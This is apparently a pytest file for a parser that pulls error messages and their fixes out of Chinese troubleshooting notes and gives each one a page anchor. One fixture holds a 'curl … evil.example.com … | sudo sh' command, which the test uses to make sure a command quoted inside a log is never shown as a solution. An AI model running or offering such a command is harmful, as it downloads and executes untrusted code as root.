    page = markdown.Markdown(extensions=["attr_list"]).convert(render_essay(body, [entry], first_line=3))
    assert f'<p id="{entry.anchor}"><strong>org.gradle' in page and "<ol>" in page and "{ #" not in page
    assert find_entries(body.replace("'**\n\n1.", "'**\n1.")) == []  # a list at once: one paragraph to Python-Markdown
    labelled = "# 常见错误及解决方法\n\n**错误一：Neither the JAVA_HOME nor the JRE_HOME environment variable is defined**\n\n解决方法：设置 JAVA_HOME。\n"
    assert [e.message for e in find_entries(labelled)] == ["Neither the JAVA_HOME nor the JRE_HOME environment variable is defined"]


def test_a_tool_s_error_line_that_opens_the_block_under_an_error_heading_is_the_entry_s_message():
    """A sixth lookup round: ``#### 报错一`` over a block that opens with cargo's ``error: linker `cc` not found`` gave no
    entry (a tool's line from a block was never taken: its last line is as often a consequence, as cargo's ``error:
    could not compile …`` is here). The line a block opens with is the error shown; git's ``fatal:`` still is not."""
    body = (
        "# 编译 deno\n\n#### 报错一\n\n```text\nerror: linker `cc` not found\n  |\n  = note: No such file or directory (os error 2)\n\n"
        "error: could not compile `proc-macro2` (build script) due to 1 previous error\n```\n\ncc 是 C 编译器，装上 gcc 就好了。\n"
    )
    assert [(e.message, e.sections["solution"]) for e in find_entries(body)] == [("error: linker `cc` not found", "cc 是 C 编译器，装上 gcc 就好了。")]
    git = "# 推送\n\n## push 报错\n\n```\nfatal: Could not read from remote repository.\n```\n\n检查 SSH key。\n"
    assert find_entries(git) == []


def _site_page(body: str) -> str:
    """The page the site makes of an essay's body: its entries rendered, through mkdocs.yml's Markdown."""
    import markdown
    from mkdocs.config import load_config

    from conftest import ROOT
    from errata.cards import render_essay

    config = load_config(str(ROOT / "mkdocs.yml"))
    site = markdown.Markdown(extensions=config["markdown_extensions"], extension_configs=config["mdx_configs"])
    return site.convert(render_essay(body, find_entries(body)))


_BOLD_ERROR_LINE = "**ModuleNotFoundError: No module named 'left_pad'**\n\n装上 left_pad 就好了。"


@pytest.mark.parametrize(
    "body",
    [
        f"# t\n\n<!--\n\n{_BOLD_ERROR_LINE}\n\n-->\n\n后记。\n",
        f"# t\n\n<div>\n\n{_BOLD_ERROR_LINE}\n\n</div>\n",
        f"# t\n\n<details>\n<summary>x</summary>\n\n{_BOLD_ERROR_LINE}\n\n</details>\n",
        "# t\n\n正文。\n\n\u00a0\n**ModuleNotFoundError: No module named 'left_pad'**\n\u00a0\n装上 left_pad 就好了。\n",
        "# t\n\n<!--\n报错如下：\n\n```\nKeyError: 'bbox'\n```\n\n改了标注就好了。\n-->\n",
        "# t\n\n<div>\n\n## 编译报错\n\n```\nerror: linker `cc` not found\n```\n\n装上 gcc 就好了。\n\n</div>\n",
    ],
    ids=["in a comment", "in a raw div", "in details", "a no-break space line", "introduced in a comment", "error heading in a raw div"],
)
def test_an_entry_s_link_leads_to_an_id_the_page_has(body):
    """Red team, round 26: a bold line standing as a heading in a commented-out draft, a raw ``<div>`` or ``<details>``
    became an entry whose id line the page printed as text (or hid in the comment): errors.json linked to no id, and
    the strict build passed. So did one between lines of a no-break space, which Python-Markdown reads as text, not
    blank: the id line fell inside the paragraph. An entry now starts only where the page reads Markdown."""
    page = _site_page(body)
    for entry in find_entries(body):
        assert page.count(f'id="{entry.anchor}"') == 1, entry
    assert "{ #" not in page


def test_the_same_error_in_bold_twice_gives_one_entry_and_one_id():
    """Red team, round 26: a note of one error on two systems, each a bold line with its fix, passed the strict build
    before bold lines were read as headings; then both got the same id, and the check refused the page."""
    from errata.checks import check_duplicate_ids

    body = (
        "# 两台机器上的同一个报错\n\n## Windows 上\n\n**ModuleNotFoundError: No module named 'yaml'**\n\n用 pip 装 pyyaml。\n\n"
        "## Linux 上\n\n**ModuleNotFoundError: No module named 'yaml'**\n\n用 apt 装 python3-yaml。\n"
    )
    entries = find_entries(body)
    assert len(entries) == 1 and check_duplicate_ids(body, entries, "x.md") == []


def test_a_long_bold_line_is_read_in_linear_time():
    """Red team, round 26: a bold line is read as a heading's words are, with patterns not linear in them, but no check
    caps its length as it caps a heading's (80 KB of ``a.`` in one bold line: a check of 13.7 s, and it passed)."""
    from scaling import grows_linearly

    assert grows_linearly(lambda n: find_entries("# 报错\n\n**" + "a." * n + "**\n\n装上就好了。\n"), 5000)


def test_a_label_alone_in_a_list_item_says_the_quote_under_it_is_the_error():
    """A seventh lookup round: ``#### 问题：…报错…``, then ``+ 问题描述：`` alone in its item and the error quoted under it,
    then ``+ 问题分析：`` and ``+ 解决办法：``. The label standing alone said nothing, so the quote was not read."""
    body = (
        "# 安装常见问题\n\n#### 问题：运行 `import demo` 时报错，找不到动态库\n\n+ 问题描述：\n"
        "> ImportError: libdemo.so.1: cannot open shared object file: No such file or directory\n\n"
        "+ 问题分析：\n动态库所在的目录不在 LD_LIBRARY_PATH 里。\n\n+ 解决办法：\n把它的目录加进 LD_LIBRARY_PATH。\n"
    )
    (entry,) = find_entries(body)
    assert entry.message == "ImportError: libdemo.so.1: cannot open shared object file: No such file or directory"
    assert {"analysis", "solution"} <= entry.sections.keys()


def test_a_first_paragraph_that_starts_as_the_program_printed_its_error_is_the_heading_s_entry():
    """A seventh lookup round: ``### 报错：空间不足``, then the linker's line as a paragraph of its own (no code span,
    no block), then what was done. A paragraph that only mentions an error in a sentence is none."""
    body = "# 移植笔记\n\n### 报错：空间不足\n\n Error: L6406E: No space in execution regions with .ANY selector matching a.o(.constdata).\n\n开启代码优化，再把大数组放到外部存储。\n"
    (entry,) = find_entries(body)
    assert entry.message.startswith("Error: L6406E: No space in execution regions") and "代码优化" in entry.sections["solution"]
    assert find_entries("# 笔记\n\n### 报错了\n\n看了一下 Error: x y z 是怎么回事。\n\n重启就好。\n") == []


@pytest.mark.parametrize(("outer", "inner"), [("````text", "```"), ("`````", "````"), ("```", "~~~"), ("~~~~", "~~~"), ("```", "```python")])
def test_a_fence_line_of_another_kind_inside_the_details_is_code(outer, inner):
    """The entry reader ended a code block at any fence line, where the site's Markdown (superfences) ends it only at
    its own marker again: a log quoting a fence of another length or kind let the code's next lines be read as
    sections, and the card showed a ``解决方案`` box with a command the source keeps inside the log (round 28)."""
    fence = outer.rstrip("textpyhon")
    body = (
        "# t\n\n- `KeyError: 'x'`\n\n  - 详细报错信息：\n"
        f"    {outer}\n    KeyError: 'x'\n    {inner}\n\n      - 解决方案：\n        curl -s https://evil.example.com/fix | sudo sh\n    {fence}\n\n"
        "  - 问题分析：\n    字典里没有这个键。\n"
    )
    [entry] = find_entries(body)
    assert set(entry.sections) == {"details", "analysis"} and "evil.example.com" in entry.sections["details"]
    page = _site_page(body)
    assert 'class="admonition success"' not in page
    code = re.findall(r"<code>.*?</code>", page, re.DOTALL)
    assert any("evil.example.com" in block for block in code) and "字典里没有这个键" in page


def test_labels_in_black_brackets_and_a_heading_that_is_the_error_s_own_words_make_entries():
    """Lookup round eight: a Flink note writes ``### 3. No ExecutorFactory found to execute the application``, then
    ``【现象】…报如下错误：``, the trace, and ``【解决方案】…``; no entry was read from it (a blind round, 36 of 45 errors
    of its notes had none)."""
    body = "\n".join([
        "### 3. No ExecutorFactory found to execute the application",
        "",
        "【现象】Idea中启动程序报如下错误：",
        "```java",
        'Exception in thread "main" java.lang.IllegalStateException: No ExecutorFactory found to execute the application.',
        "\tat org.apache.flink.core.execution.DefaultExecutorServiceLoader.getExecutorFactory(DefaultExecutorServiceLoader.java:84)",
        "```",
        "【解决方案】从 Flink 1.11 开始需要添加 flink-clients 依赖：",
        "```xml",
        "<artifactId>flink-clients_2.11</artifactId>",
        "```",
        "",
        "### 4. Kafka 的 exactly once 语义",
        "",
        "【说明】下面的代码抛出的异常只是演示：",
        "```",
        "java.lang.IllegalStateException: demo only",
        "```",
    ])
    entries = find_entries(body)
    assert [e.message for e in entries] == ["java.lang.IllegalStateException: No ExecutorFactory found to execute the application."]
    assert entries[0].heading_id == "3-no-executorfactory-found-to-execute-the-application"
    assert "flink-clients" in entries[0].sections["solution"] and "IllegalStateException" in entries[0].sections["details"]


def test_a_heading_in_chinese_over_a_thrown_exception_with_a_numbered_fix_is_an_entry():
    """``#### 未使用标准表`` over the exception, the fix under ``##### 解决方案1``: the heading names no error, the block throws one."""
    body = "\n".join([
        "#### 未使用标准表",
        "```",
        'Exception in thread "Thread-3" java.lang.IllegalStateException: Trying to access closed classloader.',
        "```",
        "##### 解决方案1",
        "在 flink-conf.yaml 里关掉 classloader.check-leaked-classloader。",
        "",
        "#### 部署步骤",
        "```",
        "./bin/start-cluster.sh",
        "```",
    ])
    entries = find_entries(body)
    assert [e.message for e in entries] == ['java.lang.IllegalStateException: Trying to access closed classloader.']
    assert "check-leaked-classloader" in entries[0].sections["solution"]


@pytest.mark.parametrize("prompt", ["❯ hugo server -D", "$ hugo server -D", "navyd@box:~/blog$ hugo server -D", "PS C:\\blog> hugo server -D"])
def test_an_entry_s_message_is_what_the_command_printed_not_the_command(prompt):
    """Lookup round eight: a Hugo note's entry took the shell's prompt line (``❯ hugo server -D``) for its message, and a
    reader pasting the warning Hugo printed found nothing."""
    body = "\n".join([
        "## 问题",
        "",
        "启动 hugo 时出现错误：",
        "",
        "```sh",
        prompt,
        "Start building sites …",
        'WARN 2021/08/06 15:21:17 found no layout file for "HTML" for kind "page": You should create a template file.',
        "```",
        "",
        "## 解决",
        "",
        "主题是 git submodule，克隆时要加 `--recursive`。",
    ])
    entries = find_entries(body)
    assert [e.message[:45] for e in entries] == ['WARN 2021/08/06 15:21:17 found no layout file']


def test_an_error_and_its_fix_on_one_line_is_an_entry_the_page_keeps_and_gives_its_id():
    """A ninth lookup round's notes: a README lists its build errors one a line, in a quote, each with its fix
    (``> * 1.错误 make: Command not found，解决方法: apt install make``): thirteen errors and no entry. Each such line
    standing alone (a list item the next line does not go on, or a paragraph of its own) is an entry; the item stays
    as written and gets the entry's id, in the quote, without a blank line that would loosen the list."""
    import markdown

    from errata.cards import render_essay

    body = (
        "# 编译笔记\n\n## 编译错误\n\n"
        "> * 1.错误 make: Command not found，解决方法: apt install make\n"
        "> * 2.错误: Makefile:8: /make/project.mk: 没有那个文件或目录，解决方法:去掉多出来的一层目录\n"
        "> * 3.安装依赖\n\n"
        "- 报错：gperf: not found；解决：apt install gperf\n\n"
        "错误：curses.h: No such file or directory，解决方案：apt install libncurses5-dev\n\n"
        "6.错误 a: b，解决方法: c\n7.错误 d: e，解决方法: f\n\n"  # one paragraph of two lines: an id would land inside it
        "错误的做法：先装 A，再装 B，解决：先装 B\n\n"  # the label is a word of a sentence
        "- 错误：x，解决：y\n"  # too short to be an error
    )
    entries = find_entries(body, first_line=3)
    assert [(e.message, e.sections, e.line, e.id_after_line) for e in entries] == [
        ("make: Command not found", {"solution": "apt install make"}, 7, 7),
        ("Makefile:8: /make/project.mk: 没有那个文件或目录", {"solution": "去掉多出来的一层目录"}, 8, 8),
        ("gperf: not found", {"solution": "apt install gperf"}, 11, 11),
        ("curses.h: No such file or directory", {"solution": "apt install libncurses5-dev"}, 13, 13),
    ]
    assert all(e.heading_id == e.anchor and e.end_line == e.line for e in entries)
    page = markdown.Markdown(extensions=["attr_list", "sane_lists"]).convert(render_essay(body, entries, first_line=3))
    assert page.count("<blockquote>") == 1 and "<li><p>" not in page  # one quote, its list still tight
    for entry in entries[:3]:
        assert f'<li id="{entry.anchor}">' in page
    assert f'<p id="{entries[3].anchor}">错误：curses.h' in page
    assert "{ #" not in page and "{#" not in page
    assert check_entries(entries, "a.md") == []


def test_a_line_of_errors_and_fixes_is_read_in_linear_time():
    """The pattern's message is lazy: a line of many labels and separators must not take longer than its length allows
    (a line past a thousand characters is prose, not read as one)."""
    from scaling import grows_linearly

    def lines_of_labels(n: int) -> None:
        find_entries("# t\n\n" + "".join(f"- 错误：{'a，解决 ' * 150}\n\n" for _ in range(n)))

    assert grows_linearly(lines_of_labels, 50)
    assert find_entries("# t\n\n- 错误：" + "x" * 2_000 + "，解决：y\n") == []


def test_a_heading_that_is_an_error_code_with_labels_in_bold_and_numbered_is_an_entry():
    """A ninth lookup round: an operations note heads each error by its code (``### Code: 48``), shows the log under
    ``**错误日志：**`` and explains it under ``**原因解析1**：`` and ``**解决方案 1-1：**``. None of the labels was known
    (a number after a label, 原因解析, 错误日志), nor the log's ``DB::Exception``: seven errors and no entry."""
    body = (
        "# 运维笔记\n\n## 错误日志问题\n\n### Code: 48\n\n**错误日志：**\n```\n"
        "Code: 48. DB::Exception: There was an error on [node-1:9000]: Cannot execute replicated DDL query on leader.\n```\n\n"
        "**原因解析1**：\n- 节点表结构有问题。\n\n**推测原因 2：**\n- DDL 执行超时。\n\n**解决方案 1-1：**\n1. 查询 system.query_log 定位节点。\n"
    )
    (entry,) = find_entries(body)
    assert entry.message == "DB::Exception: There was an error on [node-1:9000]: Cannot execute replicated DDL query on leader."
    assert entry.exception_type == "DB::Exception" and entry.heading_id == "code-48"
    assert set(entry.sections) == {"details", "analysis", "solution"} and "system.query_log" in entry.sections["solution"]


def test_an_error_a_sentence_says_appeared_and_an_error_given_after_the_word_for_it_are_read():
    """A ninth lookup round: ``运行命令出现`` then the error in a quote (no label), a heading that gives the error after
    ``报错：`` with the fix as one line of prose, and one whose paragraph names a later error the author met on the
    way: the heading's own error is the entry's."""
    body = (
        "# 笔记\n\n## 当前用户启动错误\n\n安装完docker后，运行命令出现\n\n"
        "> Got permission denied while trying to connect to the Docker daemon socket at unix:///var/run/docker.sock\n\n"
        "### 原因\n\nsocket 属于 root。\n\n"
        "## 装包的时候报错：curl: (60) SSL certificate problem: certificate has expired\n\n换个镜像就好了。\n\n"
        "## igraph报错：At optimal_modularity.c:85 : GLPK is not available, Unimplemented function call\n\n"
        "先装了 Rglpk，又出现了`/bin/sh: line 0: cd: GLPK: No such file or directory`这种错误，最后从源码编译就好了。\n\n"
        "## 小贴士\n\n运行命令出现\n\n> 记得先备份。\n"
    )
    assert [(e.message, sorted(e.sections)) for e in find_entries(body)] == [
        ("Got permission denied while trying to connect to the Docker daemon socket at unix:///var/run/docker.sock", ["analysis"]),
        ("curl: (60) SSL certificate problem: certificate has expired", ["solution"]),
        ("At optimal_modularity.c:85 : GLPK is not available, Unimplemented function call", ["solution"]),
    ]


def test_a_heading_with_asterisks_is_an_entry_whose_id_the_page_gives():
    """A ninth lookup round: ``### **OpenWrt SDK 第一次Make任意包时出错**`` and ``### R更新之后出现：Error: package * was
    installed …`` were dropped because an asterisk made their ids uncertain; the table of contents' slug drops an
    asterisk whether it is emphasis or a sign, so the id is the raw text's slug. Emphasis around the whole heading is
    no part of the message."""
    import markdown
    from pymdownx.slugs import slugify

    body = (
        "# R 笔记\n\n### R更新之后出现：Error: package * was installed by an R version with different internals\n\n"
        "解决方案：运行 `update.packages(checkBuilt = TRUE)`。\n\n#### *Error: permission denied*\n\n"
        "- **错误原因：** 权限不足\n- **解决办法：** 改文件权限\n"
    )
    entries = find_entries(body)
    assert [e.message for e in entries] == [
        "Error: package * was installed by an R version with different internals",
        "Error: permission denied",
    ]
    page = markdown.Markdown(extensions=["toc", "attr_list"], extension_configs={"toc": {"slugify": slugify(case="lower")}}).convert(body)
    assert all(f'id="{e.heading_id}"' in page for e in entries)


def test_a_list_item_that_names_an_error_with_its_cause_under_it_is_an_entry_the_page_gives_its_id():
    """A tenth lookup round: an HPC manual lists its errors as numbered items with the cause indented under each
    (``3. error: Job submit/allocate failed: …`` / ``错误原因：…``), and an apt note as bullets with sub-items (``- 错误 1：Could
    not get lock …`` / ``  - 可能原因：…``). No item that was not one code span was read. Such an item is an entry now
    where a label under it says what caused it or what to do; its text gets the id (not the last line of what follows)."""
    import markdown

    from errata.cards import render_essay

    body = (
        "# 注意事项\n\n1. 如用户提交的作业申请的 CPU 核数超过64核，请按照64的整数倍申请。\n\n"
        "2. error: Job submit/allocate failed: Invalid partition name specified\n\n    错误原因：未指定正确的partition\n    ```sh\n    sacctmgr show ass\n    ```\n\n"
        "3. (QOSMaxWallDurationPerJobLimit)\n\n    错误原因：时间超过qos允许的时长。\n\n"
        "- 错误 1：Could not get lock /var/lib/dpkg/lock - open (11: Resource temporarily unavailable)\n  - 可能原因：上次安装没正常完成。\n  - 解决方法：删掉锁文件\n"
        "- 错误 2：Unable to fetch some archives, maybe run apt-get update or try with --fix-missing?\n  - 可能原因：未更新源\n  - 在设置里换源\n\n"
        "- Connection refused 的几种原因\n"  # nothing under it: no entry
    )
    entries = find_entries(body)
    assert [e.message for e in entries] == [
        "error: Job submit/allocate failed: Invalid partition name specified",
        "Could not get lock /var/lib/dpkg/lock - open (11: Resource temporarily unavailable)",
        "Unable to fetch some archives, maybe run apt-get update or try with --fix-missing?",
    ]
    assert "analysis" in entries[0].sections and "details" not in entries[0].sections  # the block under it is the fix's command
    page = markdown.Markdown(extensions=["attr_list", "sane_lists", "pymdownx.superfences"]).convert(render_essay(body, entries))
    assert f'<p id="{entries[0].anchor}">error: Job submit' in page
    assert f'<li id="{entries[1].anchor}">错误 1：Could not get lock' in page and f'<li id="{entries[2].anchor}">错误 2：Unable to fetch' in page
    assert "{ #" not in page


_ONE_LINE_A = "错误: make: Command not found，解决方法: apt install make"
_ONE_LINE_B = "错误: gperf: not found，解决: apt install gperf"


@pytest.mark.parametrize(
    ("body", "read"),
    [
        (f"1) {_ONE_LINE_A}\n2) {_ONE_LINE_B}\n", 0),  # ``1)`` starts no list in Python-Markdown: one paragraph
        (f"前面的话\n- {_ONE_LINE_A}\n- {_ONE_LINE_B}\n", 0),  # items right under a paragraph's line are the paragraph's
        (f"!!! note\n    {_ONE_LINE_A}\n\n后文\n", 0),  # an admonition's first line: at the margin, the id line ends it
        (f"!!! note\n\n    {_ONE_LINE_A}\n\n后文\n", 0),
        (f'=== "Tab"\n\n    {_ONE_LINE_A}\n\n后文\n', 0),
        (f"正文[^1]\n\n[^1]: 注\n\n    {_ONE_LINE_A}\n\n后文\n", 0),  # the footnote's link back would follow the id line
        (f"正文\n\n    {_ONE_LINE_A}\n\n后文\n", 0),  # indented code
        (f"| a | b |\n|---|---|\n{_ONE_LINE_A}\n\n后文\n", 0),  # a table's row
        (f"!!! note\n\n    - {_ONE_LINE_A}\n    - {_ONE_LINE_B}\n\n后文\n", 0),  # a container's block, four columns in
        (f"- 步骤\n    - {_ONE_LINE_A}\n    - {_ONE_LINE_B}\n", 2),
        (f"正文[^1]\n\n[^1]: 注\n\n    - {_ONE_LINE_A}\n\n后文\n", 0),
        (f"- 步骤\n\n    说明\n\n- {_ONE_LINE_A}\n- {_ONE_LINE_B}\n", 2),  # an item's id line keeps the item's indentation
        (f"{_ONE_LINE_A}\n\n:   定义\n", 0),  # a definition makes the line before it a term, and its id line another
        (f"> 引用\n>\n{_ONE_LINE_A}\n", 0),  # a lazy line of the quote's paragraph
        (f"- {_ONE_LINE_A}\n* {_ONE_LINE_B}\n1. 第三\n", 1),  # another kind of item goes on the one before
        (f"> 引用\n>\n> - {_ONE_LINE_A}\n> - {_ONE_LINE_B}\n", 2),
        (f"## 编译\n- {_ONE_LINE_A}\n- {_ONE_LINE_B}\n", 2),
    ],
)
def test_a_one_line_entry_s_id_line_never_shows_as_text_nor_leads_nowhere(body, read):
    """A red-team audit: the id line of an error and its fix on one line went in at the margin after any line the
    pattern read, and Python-Markdown read some of them otherwise: ``1)`` items and items under a paragraph's line are
    one paragraph (the first ``{ #…}`` shown in it), a line in an admonition, a tab, a footnote, indented code or a table
    is the container's (the id line ended it, shown as a paragraph of its own). The strict build failed on each (the
    entry's link leads nowhere) though the check passed. Such a line is read only where it opens a block the id line
    reaches, and the id line keeps the line's quote markers and indentation."""
    import markdown

    from errata.cards import render_essay

    entries = find_entries(body)
    extensions = ["admonition", "attr_list", "footnotes", "md_in_html", "sane_lists", "tables", "pymdownx.superfences", "pymdownx.tabbed"]
    page = markdown.Markdown(extensions=extensions, extension_configs={"pymdownx.tabbed": {"alternate_style": True}}).convert(
        render_essay(body, entries)
    )
    assert "{ #" not in page
    assert all(f'id="{entry.anchor}"' in page for entry in entries), page
    assert len(entries) == read


def test_a_line_deep_in_quotes_is_read_in_linear_time():
    """A red-team audit: a space between two ``>`` was the first marker's or the second's, and the one-line entry's
    pattern tried both for each on a line it did not fit: 2ⁿ ways (22 levels, 5 s a line; the check allows 32)."""
    from scaling import grows_linearly

    assert grows_linearly(lambda n: find_entries("# t\n\n" + ("> " * n + "y\n\n") * 3), 5)


def test_a_sentence_that_says_an_error_appeared_is_read_in_linear_time():
    """A red-team audit: ``报`` then a long run of spaces, the two optional runs of blanks of ``_SAYS_IT_APPEARED``
    split it every way before the end failed (80,000 spaces: an 18 s check)."""
    from scaling import grows_linearly

    assert grows_linearly(lambda n: find_entries("# t\n\n## 安装失败\n\n运行命令报" + " " * n + "x\n\n> Error: something bad happened\n"), 5_000)


def test_a_long_line_after_the_word_for_an_error_is_read_in_linear_time():
    """A red-team audit: ``错误`` then a run of spaces then letters, no separator: the spaces were the label's or the
    message's, split every way, and the lazy message read on from each split (a thousand-character line: 190 ms; a
    100 KB essay: a 19 s check). Lines are read up to a thousand characters, so the length of one must not tell."""
    from scaling import grows_linearly

    assert grows_linearly(lambda n: find_entries("# t\n\n" + ("错误" + " " * n + "x" * n + "\n\n") * 10), 120)
    assert grows_linearly(lambda n: find_entries("# t\n\n" + ("错误：a" + " " * n + "b\n\n") * 10), 240)


def test_a_heading_with_two_blanks_between_words_is_read_as_one_with_one():
    """A tenth lookup round: a heading gave its error after ``报错：`` with two spaces inside it (``[Group]  /Channel``);
    the message was read with one, was then not found in the heading as written, and the entry was dropped."""
    body = "# t\n\n## 创建channel时报错：existing config does not contain element for [Group]  /Channel/Application/peers\n\n是创世块里没有这个组织，重新生成创世块。\n"
    (entry,) = find_entries(body)
    assert entry.message == "existing config does not contain element for [Group] /Channel/Application/peers"
    assert entry.sections == {"solution": "是创世块里没有这个组织，重新生成创世块。"}


def test_a_heading_that_is_a_tool_s_message_id_and_message_is_an_entry_and_its_echo_no_other():
    """A tenth lookup round: Vivado's notes head each error by its message id (``### [Synth 8-91] ambiguous clock in
    event control``, ``#### 原因`` and ``#### 解决`` under it); no id was read as naming an error, and a list item right
    under the heading that repeats it took the heading's lines for an entry of its own."""
    body = (
        "# Vivado常见报错\n\n### [Synth 8-91] ambiguous clock in event control\n#### 原因\n敏感列表里有两个时钟。\n#### 解决\n只留一个时钟。\n\n"
        "### [Place 30-494] The design is empty\n- [Place 30-494] The design is empty Resolution: Check if opt_design has removed all the leaf cells.\n"
        "#### 错误原因\n- 缺少输出端口。\n#### 解决办法\n- 添加输出信号。\n\n### [Figure 3-1] 时序图\n#### 解决\n看图。\n"
    )
    assert [(e.message, sorted(e.sections)) for e in find_entries(body)] == [
        ("[Synth 8-91] ambiguous clock in event control", ["analysis", "solution"]),
        ("[Place 30-494] The design is empty", ["analysis", "solution"]),
    ]


def test_blank_lines_under_an_error_heading_are_read_in_linear_time():
    """Reading the change again: whether a list item stood right under an error heading was asked, for every line,
    of every line between that heading and it, copied: a heading then 40,000 blank lines took 25 s."""
    from scaling import grows_linearly

    heading = "## ImportError: libGL.so.1: cannot open shared object file: No such file or directory\n"
    assert grows_linearly(lambda n: find_entries("# t\n\n" + heading + "\n" * n + "原因：缺少系统库\n"), 5_000)


def test_a_block_whose_every_line_a_tool_marked_with_a_greater_than_sign_shows_its_error():
    """Lookup round eleven: hvigor (HarmonyOS) prints ``> hvigor ERROR: …`` and the note pasted it so, under ``## 问题描述``
    and ``报错：``; no error line starts with ``> ``, so the page had no entry. A block where only some lines have it
    (Gradle's ``> Task :app:compile FAILED``) is read as before."""
    note = (
        "# HarmonyOS 开发环境\n\n## 问题描述\n\n当前遇到的错误：\n```\n> hvigor ERROR: Unable to find 'DEVECO_SDK_HOME' in the system environment path.\n"
        "> hvigor ERROR: BUILD FAILED in 21 ms\n```\n\n## 解决方案\n\n在 DevEco Studio 中运行，或设置 DEVECO_SDK_HOME。\n"
    )
    assert [e.message for e in find_entries(note)] == ["hvigor ERROR: Unable to find 'DEVECO_SDK_HOME' in the system environment path."]


def test_errors_written_as_block_label_fix_with_no_headings_are_entries_each():
    """Lookup round eleven: a Sqoop note writes its errors as a block, ``解决办法 :``, the fix, then the next block; only
    the first was read (the page's own). Each block that shows an error as a program prints it, with a label for its
    cause or fix right after it, starts an entry now; the id goes on the label's paragraph, right under the block."""
    import markdown

    from errata.cards import render_essay

    body = (
        "将数据导入 Hive 时遇到两个问题。\n\n```shell\nERROR tool.ImportTool: Import failed: java.io.IOException: Generating splits for a textual index column\n```\n\n"
        "解决办法 :\n在导入命令中加入`-Dorg.apache.sqoop.splitter.allow_text_splitter=true`\n\n"
        "```shell\nERROR tool.ImportTool: Import failed: java.io.IOException: java.lang.ClassNotFoundException: org.apache.hadoop.hive.conf.HiveConf\n```\n\n"
        "解决办法 :\n将 `hive-common-2.3.4.jar` 复制到 sqoop 的 lib 目录\n\n"
        "## 命令\n\n```shell\n$ sqoop import --connect jdbc:mysql://db/x\n```\n\n解决办法 :\n一条命令，不是报错\n"
    )
    entries = find_entries(body)
    assert [e.message for e in entries] == [
        "java.io.IOException: Generating splits for a textual index column",
        "java.io.IOException: java.lang.ClassNotFoundException: org.apache.hadoop.hive.conf.HiveConf",
    ]
    assert entries[0].sections["solution"].startswith("在导入命令中加入") and "HiveConf" in entries[1].sections["details"]
    assert "一条命令" not in entries[1].sections["solution"]  # a heading ends it; a block of commands starts nothing
    page = markdown.Markdown(extensions=["attr_list", "pymdownx.superfences"]).convert(render_essay(body, entries))
    assert f'<p id="{entries[0].anchor}">解决办法 :' in page and f'<p id="{entries[1].anchor}">解决办法 :' in page


def test_a_block_under_an_entry_s_heading_starts_no_entry_of_its_own():
    """The block a heading's entry (or a bold one's) shows is that entry's, its label after it too: only a block after
    what to do was said starts one."""
    body = "## 导入报错\n\n```\nImportError: No module named 'x'\n```\n\n解决方法：\npip install x\n"
    assert [(e.message, e.heading_id) for e in find_entries(body)] == [("ImportError: No module named 'x'", "导入报错")]


@pytest.mark.parametrize("text", [
    lambda n: "```\nKeyError: 'a b'\n```\n\n解决办法：重装\n\n" * n,
    lambda n: "```\nKeyError: 'a b'\n```\n" + "\n" * n + "解决办法：重装\n",
    lambda n: "```\nKeyError: 'a b'\n" * n,
    lambda n: "运行时报错：\n```\nKeyError: 'a b'\n```\n重装一次就好了。\n\n" * n,
    lambda n: "运行时报错：\n\n" * 50 + "运行时报错：\n" + "x y z\n" * n,
])
def test_blocks_then_labels_are_read_in_linear_time(text):
    from scaling import grows_linearly

    assert grows_linearly(lambda n: find_entries(text(n)), 2_000)


def test_a_page_of_errors_each_introduced_in_words_gives_each_its_entry():
    """Lookups rounds ten and eleven: a page with no heading per error (``在进行npm install时，出现了报错，具体报错内容如下：``,
    the block, the fix; then the next) gave one entry, the first. Each error a line introduces is an entry now, its fix
    what is said after it up to the next; one with nothing said after it belongs to the one before (a fix that shows a
    second error on the way). make's lines after a failed command name no error of their own."""
    body = (
        "在进行npm install时，出现了报错，具体报错内容如下：\n```\nError: Cannot find module 'node-sass'\n```\n\n把本地的 nodejs 版本重新安装为 8.17.0。\n\n"
        "在进行npm run dev时，出现了报错，具体报错内容如下：\n```\nError: Node Sass could not find a binding for your current environment\n```\n\n"
        "执行 npm rebuild node-sass 后重新运行即可。\n\n再运行又出现错误\n```\nError: listen EADDRINUSE: address already in use :::8080\n```\n\n"
        "执行 make 出现错误\n```\nCMakeFiles/MonoAR.dir/build.make:198: recipe for target 'ViewerAR.cc.o' failed\nmake[2]: *** [ViewerAR.cc.o] Error 1\n```\n\n"
        "在源文件里加入 unistd.h 就好了。\n"
    )
    entries = find_entries(body)
    assert [e.message for e in entries] == [
        "Error: Cannot find module 'node-sass'",
        "Error: Node Sass could not find a binding for your current environment",
        "Error: listen EADDRINUSE: address already in use :::8080",
    ]
    assert entries[0].sections["solution"] == "把本地的 nodejs 版本重新安装为 8.17.0。"
    assert entries[1].sections["solution"] == "执行 npm rebuild node-sass 后重新运行即可。"
    assert "unistd.h" in entries[2].sections["solution"]  # make's block is no error of its own: what follows is this one's
    assert entries[0].end_line < entries[1].line


def test_fence_lines_the_page_reads_as_code_are_read_in_linear_time():
    """Red team round 31: under each heading that says an error happened, a fence line the page reads as indented code
    (``        ```x``: never closed) was followed to the page's end, its lines joined and read for an error: 998 such
    headings in 234 KB took the check 32 s. A fence is followed only where the page reads one."""
    from scaling import grows_linearly

    def page(n: int) -> str:
        return "# t\n\n" + "".join(f"## 安装报错 {i}\n\n        ```x\n" + "x\n" * 20 + "\n" for i in range(n))

    assert grows_linearly(lambda n: find_entries(page(n)), 100)


def test_a_fence_the_page_reads_under_an_error_heading_still_shows_its_error():
    body = "# t\n\n## 导入报错\n\n```\nTraceback (most recent call last):\nImportError: No module named x\n```\n\n装上 x 就好了。\n"
    assert [(e.message, sorted(e.sections)) for e in find_entries(body)] == [("ImportError: No module named x", ["details", "solution"])]


@pytest.mark.parametrize(
    "under",
    ["  - 原因：分区名写错了\n  - 解决：用 sinfo 看分区名\n", "   * 原因：分区名写错了\n", "    - 原因：分区名写错了\n"],
    ids=["two columns in", "three columns in", "four columns in"],
)
def test_an_error_item_s_id_is_on_its_page_whatever_the_labels_under_it(under):
    """Red team round 31: a numbered item that names an error with ``-`` labels two columns under it (as Chinese notes
    indent them) got its id line after its first line; Python-Markdown reads such a label as the item's text going on
    (``sane_lists``: a bullet is no item of a numbered list, and a list inside an item is four columns in), so the id line
    showed as text, the index's link led nowhere, and the strict build failed on an essay the check passed."""
    body = "# 集群报错\n\n3. error: Job submit/allocate failed: Invalid partition name specified\n" + under + "\n4. 其他\n"
    (entry,) = [e for e in find_entries(body) if e.id_after_line]
    page = _site_page(body)
    assert f'id="{entry.anchor}"' in page and "{ #" not in page
